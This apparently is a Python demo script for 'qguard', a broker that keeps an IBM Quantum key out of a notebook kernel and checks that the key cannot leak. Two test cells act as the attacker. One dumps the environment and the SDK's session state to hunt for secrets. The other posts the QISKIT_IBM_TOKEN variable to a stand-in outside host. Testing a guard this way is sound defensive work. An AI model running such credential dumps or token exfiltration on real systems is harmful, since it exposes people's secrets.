"""The scenes of the broker: a notebook uses a hardware key that is never in its kernel."""

from __future__ import annotations

import datetime as dt
from typing import TYPE_CHECKING

from examples.demo.executed import POLICY, execute, records, variables
from examples.demo.ibm import DEVICE

if TYPE_CHECKING:
    from examples.demo.company import Company
    from examples.demo.stage import Stage

_NAME = "experiment.ipynb"
_POLICY = """\
apiVersion: qguard/v1
egress:
  mode: enforce
  minimum_tier: netns
  upstream_proxy: http://127.0.0.1:{proxy}
  ca_bundle: {authority}
access:
  - {{name: ibm/demo, vendor: ibm_quantum, secret: "local://ibm", {shared},
     operations: [inspect, submit, read_results]}}
  - {{name: braket/demo, vendor: amazon_braket, regions: [us-east-1], secret: "local://aws", {shared}}}
  - {{name: google/demo, vendor: google_quantum, secret: "local://google", {shared}}}
"""
_SHARED = "environment: dev, owner: demo, purpose: demonstration, expires: {until}"
_CELLS = {
    "use": "%qguard use ibm/demo",
    "submit": f"""\
from qiskit import QuantumCircuit
from qiskit.transpiler import generate_preset_pass_manager
from qiskit_ibm_runtime import QiskitRuntimeService, SamplerV2
service = QiskitRuntimeService()
backend = service.backend("{DEVICE}")
circuit = QuantumCircuit(2)
circuit.h(0)
circuit.cx(0, 1)
circuit.measure_all()
job = SamplerV2(backend).run([generate_preset_pass_manager(1, backend=backend).run(circuit)], shots=1000)
print("job", job.job_id())""",
    "result": 'print("counts", job.result(timeout=60)[0].data.meas.get_counts())',
    "all that the kernel holds": """\
import os
print(dict(os.environ), service._account.__dict__, service._active_api_client._session.__dict__)""",
    "a key of one's own": """\
import requests
own = {"apikey": "x" * 44, "grant_type": "urn:ibm:params:oauth:grant-type:apikey"}
answer = requests.post("https://iam.cloud.ibm.com/identity/token", data=own, timeout=20)
print(answer.status_code, answer.json()["message"])""",
    "a host that is nobody's": """\
requests.post("https://files.example.org/upload", data=os.environ["QISKIT_IBM_TOKEN"], timeout=20)""",
}


def stored(stage: Stage, network: Company) -> None:
    """The policy, and the key in the embedded vault."""
    stage.scene(
        "A key in the vault",
        "A made-up key of IBM Quantum goes from standard input into the embedded vault: an encrypted file in the guard's\n"
        "own folder, which no kernel sees. The policy says who may use it for what, and until when.",
    )
    until = dt.datetime.now(dt.timezone.utc).date() + dt.timedelta(days=30)
    shared = _SHARED.format(until=until)
    policy = _POLICY.format(proxy=network.proxy, authority=network.authority, shared=shared)
    (stage.place.folder / POLICY).write_text(policy)
    words = f"--owner demo --purpose demonstration --environment dev --expires {until}".split()
    code, said = stage.run(
        "qguard", "vault", "add", "local://ibm", *words, variables=variables(stage), given=network.ibm.key
    )
    stage.quote("qguard vault add", said)
    held = code == 0 and network.ibm.key not in said and not stage.traces(network.ibm.key)
    stage.check("The key is stored, and lies nowhere in plain text", "not found in any file", held=held)


def lent(stage: Stage, network: Company) -> None:
    """A job from circuit to counts, with the vendor's SDK unchanged."""
    stage.scene(
        "A key that is never in the kernel",
        "The notebook asks for access, submits a job with the vendor's own SDK, and reads its result. Then it prints\n"
        "all that it holds, tries a key of its own, and posts what it holds elsewhere.",
    )
    network.ibm.seen.clear()
    network.asked.clear()
    outputs = execute(stage, _NAME, _CELLS, guarded=True)
    stage.quote("%qguard use ibm/demo", outputs["use"])
    said = f"{outputs['submit'].splitlines()[-1:]} {outputs['result'].strip()}"
    held = "'00': 507" in outputs["result"] and len(network.ibm.jobs) == 1
    stage.check("The SDK works unchanged: sign-in, device, job, result", said, held=held)
    key, tokens = network.ibm.key, network.ibm.tokens
    held = key in network.ibm.seen and set(network.ibm.seen) <= {key, *tokens}
    stage.check(
        "The vendor saw the key at sign-in, and its own tokens after that",
        f"{len(network.ibm.seen)} requests",
        held=held,
    )
    printed = outputs["all that the kernel holds"]
    held = "QISKIT_IBM_TOKEN" in printed and not any(value in printed for value in (key, *tokens))
    stage.check("Neither is in what the kernel holds", f"{len(printed)} characters printed", held=held)
    where = stage.traces(key, *tokens)
    stage.check("Nor in any file: notebooks, logs, audit, vault", where or "not found in any file", held=not where)
    said = outputs["a key of one's own"].strip()
    held = "x" * 44 not in network.ibm.seen and said.startswith("4") and "qguard" in said
    stage.check("Another key than the lent one is refused at the vendor's host", said, held=held)
    held = "files.example.org" not in network.asked
    stage.check("What the kernel holds opens nothing elsewhere, and does not get there", "refused", held=held)
    _recorded(stage, network)


def _recorded(stage: Stage, network: Company) -> None:
    found = {each["type"]: each for each in records(stage)}
    kinds = ("lease.granted", "job.submitted", "result.read")
    data = [found.get(kind, {}).get("data", {}) for kind in kinds]
    leases = {each.get("lease") for each in data}
    trace = found.get("job.submitted", {}).get("correlationid", "")
    held = len(leases) == 1 and {each.get("job") for each in data[1:]} == set(network.ibm.jobs) and len(trace) == 32
    seen = " → ".join(f"{kind} {each.get('job') or each.get('access')}" for kind, each in zip(kinds, data, strict=True))
    stage.check("The audit log leads from the lease to the job and its result", f"{seen}, trace {trace}", held=held)
